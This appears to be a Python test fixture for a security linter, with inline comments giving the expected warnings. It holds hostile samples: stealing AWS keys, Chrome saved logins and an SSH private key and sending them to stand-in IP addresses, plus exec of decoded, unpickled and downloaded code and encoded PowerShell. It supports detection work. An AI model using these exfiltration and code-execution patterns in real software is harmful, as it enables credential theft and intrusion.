import base64
import configparser
import ftplib
import io
import marshal
import os
import pickle
import shutil
import socket
import sqlite3
import subprocess
import urllib.request

import requests

_OPS = {"run": exec, "show": print}


def dispatch_table():
    code = marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAAAAAAA"))
    _OPS["run"](code)  # want "a builtin looked up by name"
    _OPS["show"](code)


def exec_passed_to_lambda():
    (lambda r, d: r(d))(exec, base64.b64decode("cHJpbnQoMSk="))  # want "exec is passed along with decoded"


def exec_passed_plain(run):
    run(print, base64.b64decode("cHJpbnQoMSk="))


def unpickle_literal():
    pickle.loads(base64.b64decode("gASVKgAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjBJlY2hvIGhpID4gL3RtcC94eJSFlFKULg=="))  # want "unpickled"


def unpickle_cache(path):
    with open(path, "rb") as fh:
        return pickle.loads(base64.b64decode(fh.read()))


def powershell_encoded():
    subprocess.Popen(["powershell", "-NoP", "-enc", "SQBFAFgA"])  # want "runs a command" "base64-encoded command"


def powershell_plain():
    subprocess.run(["powershell", "-File", "build.ps1"])  # want "runs a command"


class Plugins:
    def __init__(self, url):
        self.url = url
        self.source = None

    def load(self):
        self.source = urllib.request.urlopen(self.url).read()  # want "network access"

    def activate(self):
        exec(self.source)  # want "network reaches exec"


def aws_keys():
    cp = configparser.ConfigParser()
    cp.read(os.path.expanduser("~/.aws/credentials"))  # want "credential store"
    s = socket.create_connection(("203.0.113.9", 9000))  # want "network access"
    s.sendall(cp["default"]["aws_secret_access_key"].encode())  # want "network access" "secret data"


def copied_browser_db():
    src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
    tmp = "/tmp/ld.db"
    shutil.copy2(src, tmp)  # want "credential store"
    rows = sqlite3.connect(tmp).execute("SELECT * FROM logins").fetchall()
    ftp = ftplib.FTP("203.0.113.88")
    ftp.storbinary("STOR x", io.BytesIO(repr(rows).encode()))  # want "network access" "secret data"


class Uploader:
    def send(self, path):
        with open(path, "rb") as fh:
            requests.post("https://203.0.113.4/u", files={"f": fh})  # want "network access"


def key_to_helper():
    Uploader().send(os.path.expanduser("~/.ssh/id_rsa"))  # want "credential file"


def readme_to_helper():
    Uploader().send("README.md")
